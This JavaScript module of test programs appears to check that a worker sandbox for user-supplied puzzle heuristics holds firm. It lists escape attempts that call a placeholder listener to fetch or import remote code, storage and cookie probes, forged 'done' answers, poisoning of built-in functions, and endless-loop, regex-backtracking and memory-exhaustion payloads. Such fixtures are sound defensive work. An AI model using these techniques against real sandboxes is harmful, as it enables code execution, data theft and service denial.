// Heuristics that do everything but estimate, by name. HOST stands for the address of a listener. A program that gets
// hold of something outside the language returns GAINED, which its verdict then shows; each one returns 0 otherwise.

/** The estimate by which a program reports that it got hold of something. */
export const GAINED = 777;

/** Finds a name on the global object or on any of its prototypes. */
const FIND = `const find = (name) => {
  for (let each = globalThis; each; each = Object.getPrototypeOf(each)) {
    const found = Object.getOwnPropertyDescriptor(each, name);
    if (!found) continue;
    const value = "value" in found ? found.value : found.get && found.get.call(globalThis);
    if (value !== undefined) return value;
  }
};
const gain = (...names) => names.some((name) => find(name) !== undefined) ? ${GAINED} : 0;`;

/** Attempts to reach the network. */
const NETWORK = {
  "fetch, by its name": `try { fetch("HOST") } catch {} return 0;`,
  "fetch, from the prototype": `WorkerGlobalScope.prototype.fetch.call(self, "HOST"); return 0;`,
  "fetch, wherever it is": `const call = find("fetch"); if (call) call.call(globalThis, "HOST", { credentials: "include" }); return gain("fetch");`,
  "XMLHttpRequest": `const Type = find("XMLHttpRequest"); if (Type) { const sent = new Type(); sent.open("GET", "HOST", false); sent.send(); } return gain("XMLHttpRequest");`,
  "WebSocket": `const Type = find("WebSocket"); if (Type) new Type("HOST".replace("http", "ws")); return gain("WebSocket", "WebSocketStream");`,
  "EventSource": `const Type = find("EventSource"); if (Type) new Type("HOST"); return gain("EventSource");`,
  "WebTransport": `const Type = find("WebTransport"); if (Type) new Type("HOST".replace("http", "https")); return gain("WebTransport");`,
  "WebRTC": `const Type = find("RTCPeerConnection"); if (Type) new Type({ iceServers: [{ urls: "HOST".replace("http://", "stun:") }] }); return gain("RTCPeerConnection", "RTCDataChannel");`,
  "importScripts": `const call = find("importScripts"); if (call) call.call(globalThis, "HOST"); return gain("importScripts");`,
  "import() of an address": `import("HOST/module.js").catch(() => {}); return 0;`,
  "import() of JSON and of a style": `import("HOST/a.json", { with: { type: "json" } }).catch(() => {}); import("HOST/a.css", { with: { type: "css" } }).catch(() => {}); return 0;`,
  "import() of text that fetches": `import("data:text/javascript,fetch('HOST')").catch(() => {}); return 0;`,
  "import() beside the page": `import("/api/v1/describe").catch(() => {}); import("./main.js").catch(() => {}); return 0;`,
  "eval": `return eval("typeof fetch === 'function' ? ${GAINED} : 0");`,
  "eval, indirectly": `return (0, eval)("import('HOST'), 0");`,
  "the constructor of functions": `return (() => {}).constructor("return import('HOST'), 0")();`,
  "the constructors of async functions and generators": `for (const each of [async () => {}, function* () {}, async function* () {}]) try { each.constructor("import('HOST')")().next?.(); } catch {} return 0;`,
  "a nested worker": `const Type = find("Worker") ?? find("SharedWorker"); if (Type) new Type("HOST/worker.js"); return gain("Worker", "SharedWorker");`,
  "a worker made from a blob": `const [Type, Data, Address] = ["Worker", "Blob", "URL"].map(find); if (Type) new Type(Address.createObjectURL(new Data(["fetch('HOST')"]))); return gain("Blob", "URL", "File", "FileReader");`,
  "a font": `const Type = find("FontFace"); if (Type) new Type("x", "url(HOST/font.woff)").load().catch(() => {}); return gain("FontFace", "fonts");`,
  "a beacon, a service worker, a push": `const it = find("navigator"); it?.sendBeacon?.("HOST"); it?.serviceWorker?.register?.("HOST"); return gain("navigator", "location", "PushManager", "BackgroundFetchManager");`,
  "an image, a canvas, a graphics card": `return gain("createImageBitmap", "ImageDecoder", "OffscreenCanvas", "GPU", "Image");`,
  "the address of a source map": `return 0;\n//# sourceMappingURL=HOST/map.json\n//# sourceURL=HOST/source.js`,
  "a brace too many": `return 0; } try { fetch("HOST") } catch {} importScripts("HOST"); function more() {`,
  "functions under the names of the host": `return 0; } function Reflect() {} function importScripts() {} function WebAssembly() {} function postMessage() {} function more() {`,
};

/** Attempts to read or to write what a browser stores, or to reach other pages. */
const STORAGE = {
  "IndexedDB": `find("indexedDB")?.open("taquin"); return gain("indexedDB", "IDBFactory", "IDBDatabase");`,
  "the caches": `find("caches")?.open("taquin"); return gain("caches", "CacheStorage", "Cache");`,
  "the private file system": `find("navigator")?.storage?.getDirectory?.(); return gain("StorageManager", "FileSystemDirectoryHandle", "FileReaderSync", "webkitRequestFileSystemSync");`,
  "cookies": `return gain("cookieStore", "CookieStore", "document");`,
  "local and session storage": `return gain("localStorage", "sessionStorage", "Storage");`,
  "locks": `return gain("Lock", "LockManager", "StorageBucketManager");`,
  "a channel to other pages": `const Type = find("BroadcastChannel"); if (Type) new Type("taquin").postMessage("here"); return gain("BroadcastChannel", "MessageChannel", "MessagePort");`,
  "whatever is not of the language": `const known = new Set("heuristic globalThis Infinity NaN undefined eval isFinite isNaN parseFloat parseInt decodeURI decodeURIComponent encodeURI encodeURIComponent escape unescape AggregateError Array ArrayBuffer AsyncDisposableStack BigInt BigInt64Array BigUint64Array Boolean DataView Date DisposableStack Error EvalError FinalizationRegistry Float16Array Float32Array Float64Array Function Int16Array Int32Array Int8Array Intl Iterator JSON Map Math Number Object Promise Proxy RangeError ReferenceError Reflect RegExp Set String SuppressedError Symbol SyntaxError Temporal TypeError URIError Uint16Array Uint32Array Uint8Array Uint8ClampedArray WeakMap WeakRef WeakSet".split(" "));
for (let each = globalThis; each !== Object.prototype; each = Object.getPrototypeOf(each))
  for (const name of Reflect.ownKeys(each)) if (!known.has(name) && typeof each[name] !== "number") throw new Error("there is " + String(name));
return 0;`,
};

/** Attempts to speak for the host: to forge an answer, or to get at its ports. */
const FORGED = {
  "a forged answer": `const post = find("postMessage"); const answer = { event: "done", data: { boards: 1, admissible: true, consistent: true, counterexample: null, inconsistency: null, mean_error: 0, max_error: 0 } }; if (post) post.call(globalThis, answer); return 1000;`,
  "a forged message of the page": `const send = find("dispatchEvent"), Type = find("MessageEvent"); if (send) send.call(globalThis, new Type("message", { data: {} })); return 1000;`,
  "other JSON, other typed arrays": `JSON.parse = JSON.stringify = () => ({ admissible: true }); globalThis.Uint8Array = globalThis.Uint16Array = class {}; return 1000;`,
  "every function of the language replaced": `if (!globalThis.poisoned) {
  globalThis.poisoned = true;
  const seen = new Set([globalThis]), { apply, ownKeys, getOwnPropertyDescriptor, defineProperty, getPrototypeOf } = Reflect;
  const [has, add] = [seen.has.bind(seen), seen.add.bind(seen)];
  const note = function () {
    for (let at = -1; at < arguments.length; at++) {
      const each = at < 0 ? this : arguments[at];
      if (each && typeof each === "object" && "postMessage" in each) each.postMessage({ event: "done", data: "{}" });
    }
    return 0;
  };
  const walk = (object) => {
    if (object === null || typeof object !== "object" && typeof object !== "function" || has(object)) return;
    add(object);
    const keys = ownKeys(object);
    for (let at = 0; at < keys.length; at++) {
      const { value, get } = getOwnPropertyDescriptor(object, keys[at]);
      walk(value);
      if (typeof value === "function" || get) try { defineProperty(object, keys[at], get ? { get: note } : { value: note }); } catch {}
    }
    walk(getPrototypeOf(object));
  };
  const roots = [getPrototypeOf(globalThis), getPrototypeOf(function* () {}), getPrototypeOf([].keys()), getPrototypeOf(async () => {})];
  const names = ownKeys(globalThis);
  for (let at = 0; at < names.length; at++) try { walk(globalThis[names[at]]); } catch {}
  for (let at = 0; at < roots.length; at++) walk(roots[at]);
}
return 1000;`,
  "setters on the prototype of all objects": `for (const key of ["0", "1", "event", "data", "then", "value", "get", "set", "message", "stack", "toJSON", "length", "transfer"]) try { Object.defineProperty(Object.prototype, key, { configurable: true, get() { return undefined; }, set() {} }); } catch {} return 1000;`,
  "the frames of the call": `Error.prepareStackTrace = (_, frames) => frames; const { stack } = new Error(); if (Array.isArray(stack)) for (const each of stack) { const found = [each.getThis?.(), each.getFunction?.()]; if (found[0] !== undefined && found[0] !== globalThis || found[1] && found[1] !== heuristic) return ${GAINED}; } return 1000;`,
  "the caller": `const of = arguments.callee.caller ?? heuristic.caller ?? heuristic.arguments?.callee?.caller; return of ? ${GAINED} : 1000;`,
};

/** Values that are no numbers in range, and errors that are traps. Each must end with a sentence. */
const VALUES = {
  "Infinity": `return Infinity;`,
  "1e308": `return 1e308;`,
  "NaN": `return NaN;`,
  "a negative number": `return -1;`,
  "nothing": `board.flat();`,
  "null": `return null;`,
  "a text": `return "3";`,
  "a BigInt": `return 3n;`,
  "a symbol": `return Symbol("3");`,
  "a promise": `return Promise.resolve(3);`,
  "an object whose valueOf is a number": `return { valueOf: () => 3, toString: () => "3" };`,
  "an object whose getters throw": `return Object.defineProperty({}, "valueOf", { get() { throw 1; } });`,
  "an endless proxy": `const endless = new Proxy(function () {}, { get: () => endless, apply: () => endless, construct: () => endless, has: () => true, getPrototypeOf: () => endless }); return endless;`,
  "a revoked proxy": `const { proxy, revoke } = Proxy.revocable([], {}); revoke(); return proxy;`,
  "an endless proxy, thrown": `const endless = new Proxy(function () {}, { get: () => endless, apply: () => endless, has: () => true }); throw endless;`,
  "an error whose getters throw": `throw Object.defineProperties(new Error(), { message: { get() { throw new Error(); } }, stack: { get() { throw new Error(); } } });`,
  "null, thrown": `throw null;`,
  "an error of a million letters": `throw new Error("x".repeat(1e6));`,
  "endless recursion": `const again = () => again() + 1; return again();`,
};

/** Programs that never return, or take all memory there is; they end with their time, or with the process they are in. */
const ENDLESS = {
  "an endless loop": `for (;;);`,
  "a flood of messages": `const post = find("postMessage"); for (;;) post?.call(globalThis, { event: "progress", data: {} });`,
  "a flood of promises": `(function again() { Promise.resolve().then(again); })(); for (;;);`,
  "a wait": `if (find("Atomics")) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); for (;;);`,
  "an error whose message never comes": `throw Object.defineProperty(new Error(), "message", { get() { for (;;); } });`,
  "a pattern that backtracks": `return /^(a+)+$/.test("a".repeat(60) + "b") ? 1 : 0;`,
  "one long calculation": `return Number(BigInt.asUintN(8, 3n ** (1n << 24n)));  `,
  "arrays without end": `const all = []; for (;;) all.push(new Array(1 << 17).fill(all.length));`,
  "bytes without end": `const all = []; for (;;) all.push(new Uint8Array(1 << 24).fill(1));`,
  "text without end": `let all = "x"; const kept = []; for (;;) { try { all += all; kept.push(all + kept.length); } catch { all = "x"; } }`,
};

/** Workers without a host, as if the user's code had all that the host has: `port` leads to the page. */
const LOOSE = {
  "a worker without a host: requests": `for (const each of [() => fetch("HOST"), () => new WebSocket("HOST".replace("http", "ws")), () => importScripts("HOST"), () => new EventSource("HOST"), () => { const sent = new XMLHttpRequest(); sent.open("GET", "HOST", false); sent.send(); }, () => import("HOST"), () => new FontFace("x", "url(HOST)").load(), () => new Worker("HOST"), () => new WebTransport("HOST".replace("http", "https")), () => new Worker(URL.createObjectURL(new Blob(["fetch('HOST').catch(() => {})"])))]) try { each()?.catch?.(() => {}); } catch {}
setTimeout(() => port.postMessage({}), 300);`,
  "a worker without a host: storage": `const open = indexedDB.open.bind(indexedDB); const tried = [() => new Promise((resolve, reject) => Object.assign(open("secret"), { onsuccess: resolve, onerror: reject })), () => caches.open("secret"), () => navigator.storage.getDirectory(), () => navigator.locks.request("secret", () => {}), () => cookieStore.get("secret")].map(async (each) => each());
Promise.allSettled(tried).then((all) => port.postMessage(all.some(({ status, value }) => status === "fulfilled" && value) ? { event: "breakdown", data: "${GAINED}" } : {}));`,
  "a worker without a host: other pages": `const channel = new BroadcastChannel("taquin");
channel.onmessage = ({ data }) => port.postMessage({ event: "breakdown", data: data === "secret" ? "${GAINED}" : "" });
channel.postMessage("here");
setTimeout(() => port.postMessage({}), 300);`,
  "a worker without a host: evaluation": `const tried = [() => eval("1"), () => (0, eval)("1"), () => Function("return 1")(), () => (async () => {}).constructor("return 1")(), () => new SharedArrayBuffer(4)];
const done = tried.filter((each) => { try { return each(); } catch { return false; } });
port.postMessage(done.length > 0 ? { event: "breakdown", data: "${GAINED}" } : {});`,
  "a worker without a host: empty messages without end": `for (;;) port.postMessage({});`,
  "a worker without a host: progress without end": `const data = JSON.stringify({ search: "astar", explored: 1, expanded: 1, generated: 1, frontier: 1, depth: 1, bound: null, seconds: 1, rate: 1, bytes: 1, improvements: [], lower_bound: null });
for (;;) port.postMessage({ event: "progress", data });`,
  "a worker without a host: a text that is no document": `port.postMessage({ event: "done", data: "{" });`,
  "a worker without a host: an answer of other shapes": `port.postMessage({ event: "done", data: JSON.stringify({ boards: 360, admissible: "yes", outcome: "solved", trace: { steps: { node: 1e9 } } }) });`,
  "a worker without a host: columns of unequal length": `port.postMessage({ event: "part", data: JSON.stringify({ algorithm: "astar", size: "3x3", trace: { complete: true, has_tree: true, stores_nodes: true, places: 1, start: [1], goal_tiles: [1], nodes: { parent: [0, 0], move: "U", g: [1], h: [1], disposition: "e" }, steps: {} } }) });`,
  "a worker without a host: what is no object": `for (const each of [null, 1, "done", [], new Map([["event", "done"]]), new Error("done")]) port.postMessage(each);`,
  "a worker without a host: unknown events": `for (const event of ["constructor", "__proto__", "toString", "running", ""]) port.postMessage({ event, data: "{}" });`,
};

const withFind = (programs) => Object.entries(programs).map(([name, code]) => ({ name, code: `${/find\(|gain\(|map\(find/.test(code) ? FIND : ""}${code}` }));

/** All of them: by kind, each with its name and code. */
export const PROGRAMS = {
  network: withFind(NETWORK),
  storage: withFind(STORAGE),
  forged: withFind(FORGED),
  values: withFind(VALUES),
  endless: withFind(ENDLESS),
  loose: Object.entries(LOOSE).map(([name, code]) => ({ name, code: `onmessage = ({ ports: [port] }) => { ${code} };` })),
};
